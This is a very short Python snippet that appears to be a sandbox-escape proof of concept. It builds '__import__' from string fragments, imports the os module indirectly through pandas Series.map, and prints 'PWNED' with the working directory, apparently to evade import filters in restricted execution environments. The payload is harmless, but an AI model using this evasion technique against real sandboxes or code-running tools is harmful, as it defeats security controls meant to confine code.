import pandas as pd

b = __builtins__
f = b["__imp" + "ort__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
mods = pd.Series(["os"]).map(f)
print("PW" + "NED:", mods[0].getcwd())
